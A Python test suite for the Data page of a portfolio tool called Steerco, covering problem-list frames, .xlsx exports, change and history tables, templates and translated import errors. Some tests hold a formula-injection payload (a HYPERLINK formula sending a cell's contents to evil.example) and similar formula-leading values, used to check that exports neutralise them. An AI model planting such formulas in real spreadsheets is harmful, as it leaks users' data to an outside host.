"""What the Data page shows and lets a PM download about an import (steerco.views.data, and
the problem list as a workbook: steerco.exports.spreadsheet).

The problem list must read the way the file does (sheet, Excel row, header) and its .xlsx
download must open in Excel without running anything a hostile file slipped into a cell.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest

from data_access import sample_history, schema
from data_access.ingest.pipeline import SheetResult, prepare
from data_access.ingest.problems import ERROR, WARNING, Problem
from data_access.ingest.reader import read_file
from data_access.versioning import ChangeSet, DatasetChanges
from steerco import i18n
from steerco.exports.spreadsheet import problems_workbook, safe_cell
from steerco.views import data as views
from steerco.views.data import (
    PROBLEM_COLUMNS,
    changes_summary,
    field_changes_table,
    history_table,
    import_summary,
    problems_frame,
    sheets_frame,
)
from tests.conftest import TEST_AS_OF
from tests.support.workbook import project_choices

HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'


@pytest.fixture(autouse=True)
def english():
    before = i18n.language()
    i18n.set_language("en")
    yield
    i18n.set_language(before)


def phase_error(row: int = 6, value: str = "Doing") -> Problem:
    return Problem(
        ERROR,
        "is not one of the allowed values as projects.phase",
        file="plan.xlsx",
        sheet="Projects",
        row=row,
        column="Phase",
        value=value,
        expected="one of Initiation, Planning, Execution, Closing, Closed, On hold",
    )


SHEET_WARNING = Problem(
    WARNING,
    "was ignored: its headers match no Steerco dataset",
    file="plan.xlsx",
    sheet="Notes",
)


def open_workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def xlsx(rows: list[list[object]], title: str = "Projects") -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# --------------------------------------------------------------------------- safe_cell


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("Doing", "Doing"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (-2, -2),  # numbers are numbers, not text that looks like a formula
        (None, None),
    ],
)
def test_safe_cell_quotes_only_text_that_starts_like_a_formula(value, safe):
    assert safe_cell(value) == safe


# --------------------------------------------------------------------------- problems_frame


def test_problems_frame_has_the_columns_a_pm_reads_in_this_order():
    frame = problems_frame([phase_error(), SHEET_WARNING])
    assert list(frame.columns) == list(PROBLEM_COLUMNS)
    assert list(PROBLEM_COLUMNS) == [
        "Severity",
        "Sheet",
        "Row",
        "Column",
        "Problem",
        "Found",
        "Expected",
        "File",
    ]
    assert frame.astype(object).where(frame.notna(), None).to_dict("records") == [
        {
            "Severity": "Error",
            "Sheet": "Projects",
            "Row": 6,
            "Column": "Phase",
            "Problem": "is not one of the allowed values as projects.phase",
            "Found": "Doing",
            "Expected": "one of Initiation, Planning, Execution, Closing, Closed, On hold",
            "File": "plan.xlsx",
        },
        {
            "Severity": "Warning",
            "Sheet": "Notes",
            "Row": None,
            "Column": "",
            "Problem": "was ignored: its headers match no Steerco dataset",
            "Found": "",
            "Expected": "",
            "File": "plan.xlsx",
        },
    ]


def test_problems_frame_rows_are_whole_numbers_even_with_gaps():
    frame = problems_frame([phase_error(row=12), SHEET_WARNING])
    assert str(frame["Row"].dtype) == "Int64"  # "12", never "12.0"
    assert frame["Row"].iloc[0] == 12
    assert pd.isna(frame["Row"].iloc[1])


def test_problems_frame_without_problems_still_has_its_columns():
    frame = problems_frame([])
    assert list(frame.columns) == list(PROBLEM_COLUMNS)
    assert len(frame) == 0


def test_problems_frame_is_translated_with_the_interface():
    try:
        i18n.set_language("fr")
        frame = problems_frame([phase_error()])
        assert "Ligne" in frame.columns
        assert frame["Ligne"].iloc[0] == 6
    finally:
        i18n.set_language("en")


@pytest.mark.parametrize(
    ("language", "message"),
    [
        ("en", "amounts in USD ($) on 3 rows (rows 4, 7, 9), but the organisation's currency "
               "is EUR. Convert them or change the setting 'currency'."),
        ("fr", "montants en USD ($) sur 3 lignes (lignes 4, 7, 9), alors que la devise de "
               "l'organisation est EUR. Convertissez-les ou changez le paramètre 'currency'."),
        ("nl", "bedragen in USD ($) op 3 rijen (rijen 4, 7, 9), maar de valuta van de "
               "organisatie is EUR. Reken ze om of wijzig de instelling 'currency'."),
    ],
)  # fmt: skip
def test_a_currency_refusal_reads_in_the_interfaces_language(language, message):
    text = "project_id,period,category,expense_type,actual\n" + "".join(
        f"P1,2026-{m:02d}-01,Software,CAPEX,{v}\n"
        for m, v in enumerate(["1", "2", "$3", "4", "5", "$6", "7", "$8"], start=2)
    )
    prepared = prepare(
        read_file(text.encode(), "financials.csv"), known_projects={"P1"}, currency="EUR"
    )
    i18n.set_language(language)
    frame = problems_frame(prepared.problems.errors)
    assert frame.iloc[:, 4].tolist() == [message]


# --------------------------------------------------------------------------- problems_workbook


def test_problems_workbook_opens_with_one_row_per_problem():
    book = open_workbook(
        problems_workbook([phase_error(6), phase_error(9), SHEET_WARNING], "plan.xlsx")
    )
    assert book.sheetnames == ["Problems"]
    sheet = book["Problems"]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "Problems found in plan.xlsx"
    assert rows[1] == list(PROBLEM_COLUMNS)
    assert rows[2:] == [
        [
            "Error",
            "Projects",
            6,
            "Phase",
            "is not one of the allowed values as projects.phase",
            "Doing",
            "one of Initiation, Planning, Execution, Closing, Closed, On hold",
            "plan.xlsx",
        ],
        [
            "Error",
            "Projects",
            9,
            "Phase",
            "is not one of the allowed values as projects.phase",
            "Doing",
            "one of Initiation, Planning, Execution, Closing, Closed, On hold",
            "plan.xlsx",
        ],
        [
            "Warning",
            "Notes",
            None,
            None,  # an empty text is an empty cell
            "was ignored: its headers match no Steerco dataset",
            None,
            None,
            "plan.xlsx",
        ],
    ]
    assert sheet.cell(row=3, column=3).data_type == "n"  # the row number is a number


def test_problems_workbook_is_ready_to_filter_and_colours_errors_and_warnings():
    sheet = open_workbook(problems_workbook([phase_error(), SHEET_WARNING], "plan.xlsx"))[
        "Problems"
    ]
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:H4"
    assert sheet["A3"].fill.fgColor.rgb.endswith("F4CCCC")
    assert sheet["A4"].fill.fgColor.rgb.endswith("FFF2CC")
    assert sheet["A1"].font.bold and sheet["E2"].font.bold


def test_problems_workbook_without_a_file_name_or_problems():
    sheet = open_workbook(problems_workbook([]))["Problems"]
    assert sheet["A1"].value == "Problems found in the file"
    assert [c.value for c in sheet[2]] == list(PROBLEM_COLUMNS)
    assert sheet.max_row == 2
    assert sheet.auto_filter.ref == "A2:H2"


@pytest.mark.parametrize("hostile", [HOSTILE, "+1", "-2", "@x", "=1+1"])
def test_a_hostile_value_is_stored_as_text_never_as_a_formula(hostile):
    problem = phase_error(value=hostile)
    sheet = open_workbook(problems_workbook([problem], "plan.xlsx"))["Problems"]
    cell = sheet["F3"]  # "Found"
    assert cell.data_type == "s"
    assert cell.value == "'" + hostile
    # Nothing anywhere in the workbook is a formula.
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_a_hostile_file_name_sheet_and_header_are_also_neutralised():
    problem = Problem(
        ERROR, "cannot be read", file="=cmd.xlsx", sheet="+Sheet", row=2, column="@SUM(A1)"
    )
    sheet = open_workbook(problems_workbook([problem], "=cmd.xlsx"))["Problems"]
    assert [sheet["B3"].value, sheet["D3"].value, sheet["H3"].value] == [
        "'+Sheet",
        "'@SUM(A1)",
        "'=cmd.xlsx",
    ]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_a_hostile_cell_of_an_uploaded_csv_ends_up_quoted_in_the_download():
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerows(
        [["project_id", "name", "phase", "Budget"], ["P1", "Alpha", "Closed", HOSTILE]]
    )
    prepared = prepare(read_file(text.getvalue().encode(), "projects.csv"))
    assert [p.value for p in prepared.problems] == [HOSTILE]
    sheet = open_workbook(problems_workbook(prepared.problems, "projects.csv"))["Problems"]
    assert [c.value for c in sheet[3]][:6] == [
        "Error",
        "projects",
        2,
        "Budget",
        "cannot be read as projects.approved_budget",
        "'" + HOSTILE,
    ]
    assert sheet["F3"].data_type == "s"


# --------------------------------------------------------------------------- sheets_frame


def test_sheets_frame_says_what_became_of_each_sheet():
    data = xlsx(
        [
            ["Portfolio"],
            ["project_id", "name", "phase"],
            ["P1", "Alpha", "Closed"],
            [],
            ["P2", "Beta", "Closed"],
            [],
            ["Total", None, None],
        ]
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    notes = book.create_sheet("Notes")
    notes.append(["Topic", "Remark"])
    notes.append(["Budget", "ask the CFO"])
    out = io.BytesIO()
    book.save(out)
    prepared = prepare(read_file(out.getvalue(), "plan.xlsx"))
    frame = sheets_frame(prepared.sheets)
    assert list(frame.columns) == ["Sheet", "Dataset", "Header row", "Rows", "Mapping", "Notes"]
    assert frame.astype(object).where(frame.notna(), None).to_dict("records") == [
        {
            "Sheet": "Projects",
            "Dataset": "Projects",
            "Header row": 2,
            "Rows": 2,
            "Mapping": "automatic",
            "Notes": "2 blank rows skipped; 1 total rows skipped",
        },
        {
            "Sheet": "Notes",
            "Dataset": "not recognised",
            "Header row": None,
            "Rows": 0,
            "Mapping": "automatic",
            "Notes": "",
        },
    ]


def test_sheets_frame_names_the_mapping_and_the_event_log_reduction():
    result = SheetResult(
        sheet="incident_event_log",
        dataset="tickets",
        header_row=1,
        mapping="servicenow-incidents",
        rows=24_918,
        reduced_from=141_712,
    )
    assert sheets_frame([result]).to_dict("records") == [
        {
            "Sheet": "incident_event_log",
            "Dataset": "Tickets",
            "Header row": 1,
            "Rows": 24_918,
            "Mapping": "servicenow-incidents",
            "Notes": "141,712 events → latest state per item",
        }
    ]


# --------------------------------------------------------------------------- changes


def frame_of(n: int, **columns) -> pd.DataFrame:
    return (
        pd.DataFrame({k: v[:n] for k, v in columns.items()})
        if columns
        else pd.DataFrame(index=range(n))
    )


def test_changes_summary_counts_and_scope_per_dataset():
    changes = ChangeSet(
        {
            "projects": DatasetChanges(
                dataset="projects",
                added=frame_of(2),
                changed=frame_of(1),
                previous=frame_of(1),
                removed=frame_of(0),
                unchanged=7,
            ),
            "raid": DatasetChanges(
                dataset="raid",
                added=frame_of(0),
                changed=frame_of(3),
                previous=frame_of(3),
                removed=frame_of(4),
                unchanged=0,
                scope_column="project_id",
            ),
        }
    )
    assert changes_summary(changes).to_dict("records") == [
        {
            "Dataset": "Projects",
            "Added": 2,
            "Changed": 1,
            "Removed": 0,
            "Unchanged": 7,
            "Scope": "add and update only",
        },
        {
            "Dataset": "RAID log",
            "Added": 0,
            "Changed": 3,
            "Removed": 4,
            "Unchanged": 0,
            "Scope": "rows of the same project_id missing from the file are removed",
        },
    ]


def test_field_changes_table_shows_key_column_and_before_arrow_after_rag_as_words():
    fields = pd.DataFrame(
        {
            "project_id": ["P1", "P1", "P2"],
            "report_date": pd.to_datetime(["2026-03-01", "2026-03-01", "2026-03-08"]),
            "column": ["overall_rag", "percent_complete", "summary"],
            "old": ["G", 40.0, None],
            "new": ["R", 42.5, "Vendor late"],
        }
    )
    change = DatasetChanges(
        dataset="status_reports",
        added=frame_of(0),
        changed=frame_of(2),
        previous=frame_of(2),
        removed=frame_of(0),
        field_changes=fields,
    )
    assert field_changes_table(change).to_dict("records") == [
        {"Key": "P1 / 01 Mar 2026", "Column": "overall_rag", "Before → after": "Green → Red"},
        {"Key": "P1 / 01 Mar 2026", "Column": "percent_complete", "Before → after": "40 → 42.5"},
        {"Key": "P2 / 08 Mar 2026", "Column": "summary", "Before → after": "– → Vendor late"},
    ]
    assert len(field_changes_table(change, limit=1)) == 1


def test_field_changes_table_without_changes_has_its_columns():
    change = DatasetChanges(
        dataset="projects",
        added=frame_of(1),
        changed=frame_of(0),
        previous=frame_of(0),
        removed=frame_of(0),
    )
    table = field_changes_table(change)
    assert list(table.columns) == ["Key", "Column", "Before → after"] and table.empty


# --------------------------------------------------------------------------- history


def test_history_table_shows_the_import_log_as_read():
    log = pd.DataFrame(
        {
            "import_id": [12, 11, 3],
            "started_at": pd.to_datetime(
                ["2026-03-02 09:05:07", "2026-03-01 17:30:00", "2026-01-10 08:00:00"]
            ),
            "user_name": ["marie", None, None],
            "source": ["plan.xlsx", "plan.xlsx", "sample"],
            "datasets": ["projects,raid", None, "projects,status_reports"],
            "outcome": ["committed", "refused", "seeded"],
            "rows_added": [2, 0, 40],
            "rows_changed": [1, 0, 0],
            "rows_removed": [0, 0, 0],
            "message": [None, "3 errors", None],
            "sha256": ["ab" * 32, "cd" * 32, None],
        }
    )
    table = history_table(log)
    assert sorted(table.columns) == sorted(
        [
            "Import",
            "When",
            "Who",
            "Source",
            "Datasets",
            "Outcome",
            "Added",
            "Changed",
            "Removed",
            "Message",
            "SHA-256",
        ]
    )
    assert table.to_dict("records") == [
        {
            "Import": "#12",
            "When": "2026-03-02 09:05:07",
            "Who": "marie",
            "Source": "plan.xlsx",
            "Datasets": "projects, raid",
            "Outcome": "Committed",
            "Added": 2,
            "Changed": 1,
            "Removed": 0,
            "Message": "",
            "SHA-256": "abababababab",
        },
        {
            "Import": "#11",
            "When": "2026-03-01 17:30:00",
            "Who": "",
            "Source": "plan.xlsx",
            "Datasets": "",
            "Outcome": "Refused",
            "Added": 0,
            "Changed": 0,
            "Removed": 0,
            "Message": "3 errors",
            "SHA-256": "cdcdcdcdcdcd",
        },
        {
            "Import": "#3",
            "When": "2026-01-10 08:00:00",
            "Who": "",
            "Source": "sample",
            "Datasets": "projects, status_reports",
            "Outcome": "Sample loaded",
            "Added": 40,
            "Changed": 0,
            "Removed": 0,
            "Message": "",
            "SHA-256": "",
        },
    ]


@pytest.mark.parametrize(
    ("outcome", "label"),
    [
        ("unchanged", "No change"),
        ("failed", "Failed"),
        ("rolled back", "Rolled back"),
        ("rollback", "Rollback"),
        ("something new", "something new"),  # an unknown outcome is shown as recorded
    ],
)
def test_history_table_labels_every_outcome(outcome, label):
    log = pd.DataFrame(
        {
            "import_id": [1],
            "started_at": [datetime(2026, 3, 1, 9, 0)],
            "user_name": [None],
            "source": ["x.csv"],
            "datasets": ["tickets"],
            "outcome": [outcome],
            "rows_added": [0],
            "rows_changed": [0],
            "rows_removed": [0],
            "message": [None],
            "sha256": [None],
        }
    )
    assert history_table(log)["Outcome"].tolist() == [label]


def test_import_summary_and_roll_back_rules():
    record = {
        "outcome": "committed",
        "summary": '{"projects": {"added": 2, "changed": 1, "removed": 0}, "old_set": {}}',
    }
    assert import_summary(record).to_dict("records") == [
        {"Dataset": "Projects", "Added": 2, "Changed": 1, "Removed": 0},
        {"Dataset": "old_set", "Added": 0, "Changed": 0, "Removed": 0},
    ]
    assert import_summary({"summary": None}).empty
    assert views.can_roll_back({"outcome": "committed"})
    assert views.can_roll_back({"outcome": "rollback"})
    assert not views.can_roll_back({"outcome": "rolled back"})
    assert not views.can_roll_back({"outcome": "refused"})


def test_rows_table_shows_every_dataset_column_as_text():
    frame = pd.DataFrame(
        {
            "project_id": ["P1"],
            "name": ["Alpha"],
            "start_date": [pd.Timestamp("2026-01-05")],
            "approved_budget": [1234.5],
            "business_value": pd.array([np.nan], dtype="Int64"),
        }
    )
    table = views.rows_table(frame, "projects")
    assert list(table.columns)[:3] == ["project_id", "name", "programme"]
    row = table.iloc[0]
    assert (row["project_id"], row["start_date"], row["approved_budget"]) == (
        "P1",
        "05 Jan 2026",
        "1,234.5",
    )
    assert row["programme"] == "–" and row["business_value"] == "–"


def test_rows_table_shows_rag_codes_as_words():
    frame = pd.DataFrame(
        {"project_id": ["P1", "P2"], "overall_rag": ["A", None], "risk_rag": ["R", "G"]}
    )
    table = views.rows_table(frame, "status_reports")
    assert table["overall_rag"].tolist() == ["Amber", "–"]
    assert table["risk_rag"].tolist() == ["Red", "Green"]


def _scoped_changes(removed: dict[str, int]) -> ChangeSet:
    return ChangeSet(
        {
            name: DatasetChanges(
                dataset=name,
                added=frame_of(0),
                changed=frame_of(0),
                previous=frame_of(0),
                removed=frame_of(n),
                scope_column=schema.REPLACE_SCOPES.get(name),
            )
            for name, n in removed.items()
        }
    )


def test_removal_scope_says_which_datasets_and_projects_and_counts_the_rows():
    frames = {
        "projects": pd.DataFrame({"project_id": ["PRJ-002", "PRJ-001"]}),
        "milestones": pd.DataFrame({"project_id": ["PRJ-001", "PRJ-002", "PRJ-001"]}),
        "raid": pd.DataFrame({"project_id": ["PRJ-002"]}),
    }
    scoped = _scoped_changes({"projects": 0, "milestones": 1, "raid": 2})
    assert views.removal_scope(frames, scoped) == (
        "Switched on, the rows of projects PRJ-001, PRJ-002 in Milestones; the rows of projects "
        "PRJ-002 in RAID log that this file does not list would be removed: 3 row(s)."
    )
    frames["raid"] = frames["milestones"]  # the same projects on both sheets: said once
    assert views.removal_scope(frames, scoped) == (
        "Switched on, the rows of projects PRJ-001, PRJ-002 in Milestones, RAID log that this "
        "file does not list would be removed: 3 row(s)."
    )


def test_removal_scope_names_ten_values_then_counts_and_says_blank_scopes():
    ids = [f"P{i:02d}" for i in range(12)]
    frames = {"raid": pd.DataFrame({"project_id": [*ids, None]})}
    said = views.removal_scope(frames, _scoped_changes({"raid": 0}))
    assert "P00, P01, P02, P03, P04, P05, P06, P07, P08, P09 and 2 more in RAID log" in said
    assert "(and the rows without a project_id)" in said and said.endswith(": 0 row(s).")


def test_removal_scope_is_none_when_no_dataset_of_the_file_removes_rows():
    frames = {"projects": pd.DataFrame({"project_id": ["P1"]})}
    assert views.removal_scope(frames, _scoped_changes({"projects": 0})) is None


def test_rows_export_keeps_every_row_in_dataset_order_with_types():
    from data_access import schema

    columns = list(schema.dataset("raid").column_names)
    frame = pd.DataFrame(
        {
            "probability": [4, 2],
            "raid_id": ["R-2", "R-1"],
            "raised_date": pd.to_datetime(["2026-01-05", "2026-02-01"]),
            "_valid_from": ["x", "y"],  # bookkeeping: not exported
        }
    )
    out = views.rows_export(frame, "raid")
    assert list(out.columns) == columns
    assert out["raid_id"].tolist() == ["R-2", "R-1"]
    assert out["probability"].tolist() == [4, 2]  # numbers, not display text
    assert pd.api.types.is_datetime64_any_dtype(out["raised_date"])


# --------------------------------------------------------------------------- the page's reads


def test_history_reads_the_sample_load_which_cannot_be_rolled_back(conn):
    found = views.history(conn)
    assert not found.is_empty
    loads = sample_history.CYCLES + 1  # the sample's past cycles, then the anchor day's load
    assert found.table["Outcome"].tolist() == ["Sample loaded"] * loads
    record = found.record(0)  # the newest first
    load = f"test sample: load of {TEST_AS_OF:%Y-%m-%d}"
    assert record["import_id"] == loads and record["source"] == load
    assert views.import_line(record).startswith(f"**{load}** · ")
    assert not views.can_roll_back(record)


def test_as_of_reads_a_dataset_with_every_row_in_the_download(conn, sample_frames):
    raid = sample_frames["raid"]
    found = views.as_of(conn, "raid", datetime(2100, 1, 1), limit=50)
    assert found.rows == len(raid) == len(found.export)
    assert len(found.table) == 50
    assert sorted(found.export["raid_id"]) == sorted(raid["raid_id"])
    assert views.as_of(conn, "raid", datetime(2000, 1, 1)).rows == 0  # before the load


def test_mappings_lists_the_built_in_ones_and_nothing_saved(conn):
    found = views.mappings(conn)
    assert found.names == ["servicenow-incidents"] and found.saved == []
    assert found.table[["Name", "Kind"]].values.tolist() == [["servicenow-incidents", "built-in"]]


def test_sources_lists_the_configured_ones_or_says_why_not(conn, settings, tmp_path):
    missing = views.sources(conn, replace(settings, sources_file=str(tmp_path / "none.toml")))
    assert missing.table is None and "No sources file" in missing.problem
    path = tmp_path / "sources.toml"
    path.write_text(
        '[[source]]\nname = "Risk tool"\ndataset = "raid"\nurl = "sqlite://"\nquery = "SELECT 1"\n',
        encoding="utf-8",
    )
    found = views.sources(conn, replace(settings, sources_file=str(path)))
    assert found.problem is None and [s.name for s in found.configured] == ["Risk tool"]
    assert found.table.to_dict("records") == [
        {"Source": "Risk tool", "Dataset": "RAID log", "Mapping": "automatic"}
    ]


def test_the_template_is_a_workbook_with_a_sheet_per_dataset(conn):
    book = openpyxl.load_workbook(io.BytesIO(views.template(conn)))
    assert {"projects", "raid"} <= set(book.sheetnames)


def test_the_templates_project_drop_down_lists_the_stored_projects(conn, sample_frames):
    book = openpyxl.load_workbook(io.BytesIO(views.template(conn)))
    assert book["Lists"].sheet_state == "hidden"
    assert project_choices(book, "status_reports") == sorted(
        sample_frames["projects"]["project_id"]
    )


def test_a_scoped_users_template_lists_only_the_projects_of_their_scope(conn, sample_frames):
    from data_access.filters import Filters

    projects = sample_frames["projects"]
    portfolio = sorted(projects["portfolio"].dropna().unique())[0]
    scope = Filters(as_of=TEST_AS_OF).within((portfolio,), ())
    book = openpyxl.load_workbook(io.BytesIO(views.template(conn, scope)))
    expected = sorted(projects.loc[projects["portfolio"] == portfolio, "project_id"])
    assert project_choices(book, "raid") == expected


def test_filtered_project_ids_and_the_my_projects_file(conn, filters, settings, sample_frames):
    projects = sample_frames["projects"]
    programme = sorted(projects["programme"].dropna().unique())[0]
    ids = views.filtered_project_ids(conn, filters.with_(programme=(programme,)))
    assert ids == tuple(sorted(projects.loc[projects["programme"] == programme, "project_id"]))
    book = openpyxl.load_workbook(
        io.BytesIO(views.my_projects_workbook(conn, filters, settings, project_ids=ids))
    )
    assert [r[0] for r in book["projects"].iter_rows(min_row=2, values_only=True)] == list(ids)
    assert views.my_projects_file_name(TEST_AS_OF) == "steerco_my_projects_2026-11-16.xlsx"


# --------------------------------------------------------------------------- problems, translated

PLAN = (
    "project_id,name,phase,start_date\n"
    "P1,Alpha,Planning,2026-01-05\n"
    "P2,Beta,Doing,2026-02-30\n"
    "P1,Gamma,Execution,2026-03-01\n"
)

#: (problem, expected) as the Data page shows them: a value not allowed, a bad date, a
#: duplicate key, a missing required column and an unreadable file.
SAID = {
    "en": [
        (
            "is not one of the allowed values as projects.phase",
            "one of Initiation, Planning, Execution, Closing, Closed, On hold",
        ),
        ("cannot be read as projects.start_date", "a date such as 31/12/2026 or 2026-12-31"),
        ("duplicate key", "each project_id once; the same key is first on row 2"),
        (
            "has no column for projects.name, which is required",
            "a header 'name' (or project name, title, nom)",
        ),
        (
            "is a PNG image, not a spreadsheet. Upload an Excel workbook (.xlsx) or a CSV file.",
            "",
        ),
    ],
    "fr": [
        (
            "ne fait pas partie des valeurs admises pour projects.phase",
            "l'une des valeurs Initiation, Planning, Execution, Closing, Closed, On hold",
        ),
        (
            "ne peut pas être lu comme projects.start_date",
            "une date, par ex. 31/12/2026 ou 2026-12-31",
        ),
        (
            "clé en double",
            "chaque project_id une seule fois ; la même clé figure d'abord à la ligne 2",
        ),
        (
            "n'a pas de colonne pour projects.name, qui est obligatoire",
            "un en-tête 'name' (ou project name, title, nom)",
        ),
        (
            "est une image PNG, pas un tableur. Téléversez un classeur Excel (.xlsx) ou un "
            "fichier CSV.",
            "",
        ),
    ],
    "nl": [
        (
            "is geen van de toegestane waarden voor projects.phase",
            "een van Initiation, Planning, Execution, Closing, Closed, On hold",
        ),
        (
            "kan niet gelezen worden als projects.start_date",
            "een datum, bv. 31/12/2026 of 2026-12-31",
        ),
        ("dubbele sleutel", "elke project_id één keer; dezelfde sleutel staat eerst op rij 2"),
        (
            "heeft geen kolom voor projects.name, die verplicht is",
            "een kolomkop 'name' (of project name, title, nom)",
        ),
        (
            "is een PNG-afbeelding, geen rekenblad. Upload een Excel-werkmap (.xlsx) of een "
            "CSV-bestand.",
            "",
        ),
    ],
}  # fmt: skip


def real_problems() -> list[Problem]:
    from data_access.ingest.service import read_upload

    plan = prepare(read_file(PLAN.encode(), "plan.csv"))
    missing = prepare(read_file(b"project_id,phase\nP1,Planning\n", "plan.csv"))
    _, refused = read_upload(b"\x89PNG\r\n\x1a\n" + b"0" * 20, "plan.xlsx")
    return [*plan.problems, *missing.problems, *refused]


@pytest.mark.parametrize("language", ["en", "fr", "nl"])
def test_an_imports_problems_read_in_the_users_language(language):
    problems = real_problems()
    i18n.forget_missed()
    with i18n.speaking(language):
        frame = problems_frame(problems)
        said = list(zip(frame[i18n.t("Problem")], frame[i18n.t("Expected")], strict=True))
        assert not i18n.missed()
    assert said == SAID[language]
    # data stays as written: the value found, the column and the file
    assert frame.iloc[0, 5] == "Doing"
    assert frame.iloc[0, 3] == "phase"


def test_english_problems_are_the_messages_themselves():
    for problem in real_problems():
        assert problem.translated(i18n.t) == problem.message
        assert problem.expected_translated(i18n.t) == problem.expected


def test_more_rows_than_listed_read_in_french():
    rows = "".join(f"P{n},Name {n},Planning,someday\n" for n in range(60))
    prepared = prepare(read_file(f"project_id,name,phase,start_date\n{rows}".encode(), "p.csv"))
    with i18n.speaking("fr"):
        last = problems_frame(prepared.problems).iloc[-1]
    assert last.iloc[4] == (
        "ne peut pas être lu comme projects.start_date : 10 autre(s) ligne(s) du même type ne "
        "sont pas listées"
    )
    assert last.iloc[6] == "une date, par ex. 31/12/2026 ou 2026-12-31"
